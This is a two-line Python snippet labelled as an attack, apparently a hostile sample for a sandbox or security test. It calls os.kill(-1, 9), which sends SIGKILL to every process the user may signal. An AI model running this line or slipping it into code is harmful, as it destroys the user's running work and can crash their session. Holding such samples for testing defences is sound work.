# Attack: SIGKILL to every process the user may signal.
import os

os.kill(-1, 9)
